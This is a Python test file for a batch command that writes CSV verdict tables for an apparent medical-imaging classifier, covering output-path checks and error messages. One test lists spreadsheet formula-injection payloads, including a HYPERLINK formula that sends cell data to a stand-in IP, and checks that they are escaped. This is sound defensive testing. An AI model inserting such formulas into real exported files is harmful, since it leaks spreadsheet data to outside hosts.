"""Where the batch command writes its table, and that a wrong place is told before any file is scored."""

from __future__ import annotations

import csv
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from services.batch import Row, app, write_table
from services.errors import FalxError
from services.imaging.phantom import as_png
from services.settings import get_settings

HEADS = ["file", "verdict"]


def never() -> Iterator[Row]:
    raise AssertionError("a file was scored")
    yield {}


def test_a_table_appears_whole_and_its_verdicts_are_counted(tmp_path: Path):
    out = tmp_path / "x.csv"
    out.write_text("an earlier table")

    def rows() -> Iterator[Row]:
        yield {"file": "a", "verdict": "failed"}
        assert out.read_text() == "an earlier table"
        yield {"file": "b", "verdict": "failed"}

    assert write_table(out, HEADS, rows()) == {"failed": 2}
    with out.open(newline="", encoding="utf-8") as lines:
        assert [row["file"] for row in csv.DictReader(lines)] == ["a", "b"]
    assert list(tmp_path.iterdir()) == [out]


@pytest.mark.parametrize("name", ['=HYPERLINK("http://192.0.2.1?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1+1.png"])
def test_a_files_name_is_no_formula(tmp_path: Path, name: str):
    rows = iter([{"file": name, "verdict": "failed"}, {"file": "scans/=1.png", "verdict": "failed"}])
    write_table(tmp_path / "x.csv", HEADS, rows)
    with (tmp_path / "x.csv").open(newline="", encoding="utf-8") as lines:
        assert [row["file"] for row in csv.DictReader(lines)] == [f"'{name}", "scans/=1.png"]


def test_a_place_that_is_no_file_is_refused_before_any_work(tmp_path: Path):
    folder, pipe = tmp_path / "folder", tmp_path / "pipe"
    folder.mkdir()
    os.mkfifo(pipe)
    for out in (folder, pipe, Path()):
        with pytest.raises(FalxError, match=r"cannot be written: it is a folder or no plain file\. Name a file"):
            write_table(out, HEADS, never())
    for out in (tmp_path / "missing" / "x.csv", pipe / "x.csv", tmp_path / ("x" * 300)):
        with pytest.raises(FalxError, match=r"cannot be written: .*\. Name another file with --out\."):
            write_table(out, HEADS, never())
    assert sorted(tmp_path.iterdir()) == [folder, pipe]


def test_a_folder_as_out_ends_the_command_with_a_sentence(tmp_path: Path):
    folder = tmp_path / "folder"
    folder.mkdir()
    (tmp_path / "x.png").write_bytes(as_png("axial_t1c_glioma"))
    typed = [str(tmp_path / "x.png"), "--task", "brain_tumor_type", "--out", str(folder)]
    result = CliRunner().invoke(app, typed, catch_exceptions=False)
    assert result.exit_code == 2
    assert result.stderr == f"{folder} cannot be written: it is a folder or no plain file. Name a file with --out.\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["folder", "x.png"]


def test_a_full_disk_is_told_and_leaves_nothing(tmp_path: Path):
    (tmp_path / "x.csv.partial").symlink_to("/dev/full")
    with pytest.raises(FalxError, match="No space left on device"):
        write_table(tmp_path / "x.csv", HEADS, iter([{"file": "a", "verdict": "failed"}]))
    assert not list(tmp_path.iterdir())


def test_an_error_of_the_scoring_is_not_taken_for_one_of_the_table(tmp_path: Path):
    def rows() -> Iterator[Row]:
        yield {"file": "a", "verdict": "failed"}
        raise PermissionError(13, "Permission denied")

    with pytest.raises(PermissionError):
        write_table(tmp_path / "x.csv", HEADS, rows())
    assert not list(tmp_path.iterdir())


def test_a_model_repository_that_is_a_file_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    models = tmp_path / "models.txt"
    models.write_text("no repository")
    monkeypatch.setenv("MODELS_DIR", str(models))
    get_settings.cache_clear()
    typed = [str(models), "--task", "brain_tumor_type", "--out", str(tmp_path / "x.csv")]
    result = CliRunner().invoke(app, typed, catch_exceptions=False)
    get_settings.cache_clear()
    assert result.exit_code == 2
    assert result.stderr == (
        "The model repository “models.txt” cannot be read (Not a directory). Name its folder with MODELS_DIR, or "
        "--models in training.\n"
    )
    assert list(tmp_path.iterdir()) == [models]
